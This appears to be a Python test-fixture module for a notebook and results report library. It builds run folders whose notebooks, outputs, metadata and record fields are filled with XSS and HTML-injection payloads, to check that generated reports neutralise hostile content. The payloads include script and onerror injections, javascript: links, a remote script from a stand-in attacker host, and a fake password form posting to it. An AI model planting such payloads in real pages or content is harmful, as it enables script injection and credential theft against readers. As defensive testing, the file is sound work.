"""Run folders written by hand, and outputs that try to harm whoever opens a report of them."""

import json

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from medlib.results import Results

SOURCE = {"name": "toy", "version": "1", "sha256": "0" * 64, "simulated": True}
ABOUT = {"title": "A toy", "application": "toys", "task": "play"}
STARTED = "2026-01-02T03:04:{:02}+00:00"
HOST = "https://attacker.invalid"
ATTACK = "document.title = 'pwned'"
# Each would change the title of the page, load a file from elsewhere, or hide what stands around it.
ATTACKS = [
    f"<script>{ATTACK}</script>",
    f'<script src="{HOST}/script.js"></script>',
    f'<img src="x" onerror="{ATTACK}">',
    f'<img src="{HOST}/pixel.png" alt="A pixel">',
    f'<svg onload="{ATTACK}"><script>{ATTACK}</script><image href="{HOST}/pixel.svg" /></svg>',
    f'<svg><style><img src=x onerror="{ATTACK}"></style></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{ATTACK}">',
    f'<a href="javascript:{ATTACK}" id="attack">click</a>',
    f'<a href="&#106;ava&#9;script:{ATTACK}">click</a>',
    f'<a href="data:text/html,<script>{ATTACK}</script>">click</a>',
    f'<iframe srcdoc="<script>top.{ATTACK}</script>"></iframe>',
    f'<iframe src="{HOST}"></iframe><object data="{HOST}"></object><embed src="{HOST}">',
    f'<meta http-equiv="refresh" content="0; url={HOST}">',
    f'<base href="{HOST}/"><link rel="stylesheet" href="{HOST}/style.css">',
    f"<style>body {{ display: none }} @import '{HOST}/style.css';</style>",
    f'<p style="position: fixed; inset: 0; background: url({HOST}/pixel.png)">over everything</p>',
    f'<form action="{HOST}"><input name="password"><button formaction="{HOST}">Log in</button></form>',
    f'<video src="{HOST}/film.mp4" autoplay onerror="{ATTACK}"></video><audio src="{HOST}/sound.mp3"></audio>',
    f'<details open ontoggle="{ATTACK}"><summary>open</summary></details>',
    "</article></main></body></html><!-- <details><table><div>",
    f"{{{{ 7 * 7 }}}} {{% raw %}} $\\href{{javascript:{ATTACK}}}{{x}}$ `<script>{ATTACK}</script>`",
]


def bundle(value, name="score", **fields):
    """Results of one metric on simulated data."""
    results = Results([SOURCE])
    results.add(name, value, **fields)
    return results


def notebook(*cells, about=ABOUT):
    """A node; text is markdown."""
    cells = [new_markdown_cell(cell) if isinstance(cell, str) else cell for cell in cells]
    return new_notebook(cells=cells, metadata={} if about is None else {"medlib": about})


def shown(**data):
    """A code cell that shows something: a MIME type's main part is its keyword's name, as in ``html="<p>"``."""
    types = {"html": "text/html", "text": "text/plain", "latex": "text/latex", "markdown": "text/markdown"}
    types |= {"svg": "image/svg+xml", "png": "image/png", "javascript": "application/javascript"}
    output = new_output("display_data", {types[name]: content for name, content in data.items()})
    return new_code_cell("shown", execution_count=1, outputs=[output])


def put(root, identifier="toys/toy", key="0" * 16, results=None, node=None, name=None, **record):
    """Write a run folder; fields of the record win over those of a finished run."""
    folder = root / identifier / (name or key)
    folder.mkdir(parents=True)
    content = {
        "id": identifier,
        "key": key,
        "profile": "smoke",
        "parameters": {},
        "notebook": "aa",
        "library": "bb",
        "modules": {},
        "versions": {"torch": "2.13.0"},
        "data": [SOURCE],
        "git": {"commit": "c0ffee", "dirty": True},
        "machine": {"system": "Linux", "processor": "x86_64", "cores": 2, "gpus": []},
        "started": STARTED.format(0),
        "status": "done",
        "error": None,
        "seconds": 61.4,
        "peak_memory_bytes": 1_500_000_000,
    }
    (folder / "record.json").write_text(json.dumps(content | record))
    if results is not None:
        (folder / "results.json").write_text(json.dumps(results.to_dict()))
    nbformat.write(node or notebook("# A toy"), folder / "notebook.ipynb")
    return folder


def put_sweep(root, identifier="toys/toy", seeds=(0, 1), node=None):
    """Finished runs over learning rates and seeds: scores of 0.6, 0.9 and 0.7, plus 0.01 for each seed."""
    for number, (rate, score) in enumerate({0.0001: 0.6, 0.001: 0.9, 0.01: 0.7}.items()):
        for seed in seeds:
            key = f"{number:08}{seed:08}"
            results = bundle(score + seed / 100, interval=(0.5, 0.95), n=9, baseline=0.5)
            put(root, identifier, key, results, node, parameters={"rate": rate, "seed": seed})


def put_hostile(root):
    """A run whose outputs, prose, parameters, title and places are all attacks."""
    markup = "<img src=x onerror=alert(1)>"
    node = notebook(*ATTACKS, about={name: f"{markup}{name}" for name in ABOUT})
    node.cells += [shown(html=attack) for attack in ATTACKS]
    node.cells += [shown(markdown=attack) for attack in ATTACKS]
    node.cells += [
        shown(svg=f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ATTACK}"><script>{ATTACK}</script></svg>')
    ]
    node.cells += [shown(javascript=ATTACK, text="a script"), shown(latex=ATTACKS[0])]
    node.cells += [new_code_cell(ATTACKS[0], outputs=[new_output("stream", name="stdout", text=ATTACKS[0])])]
    picture = shown(png='" onerror="alert(1)')
    picture.outputs[0].metadata["image/png"] = {"alt": '"><script>', "width": f"1 onerror={ATTACK}", "height": "9"}
    picture.outputs[0].metadata["filenames"] = {"image/png": f"{HOST}/pixel.png"}
    node.cells += [picture]
    results = Results([SOURCE | {"name": markup}])
    results.add("score", 0.5, unit=markup, reference={"value": 1.0, "source": markup, "protocol": markup})
    parameters = {markup: markup, "rate": f"$x^{markup}"}
    fields = {"profile": f"{markup} #?%", "versions": {markup: markup}, "data": [SOURCE | {"name": markup}]}
    for number in range(2):
        place = {"identifier": f"toys/<b onclick=alert(1)> #?%20&'{number}", "key": f"<i>{number}"}
        put(root, results=results, node=node, parameters=parameters | {"seed": number}, **place, **fields, id=markup)
    error = {"name": markup, "message": markup, "cell": 1}
    folder = put(root, "toys/failed", node=node, status="failed", error=error, parameters=parameters)
    (folder / "traceback.txt").write_text(f"{markup}\x1b[0;31m</pre>{ATTACKS[0]}\x1b[0m")
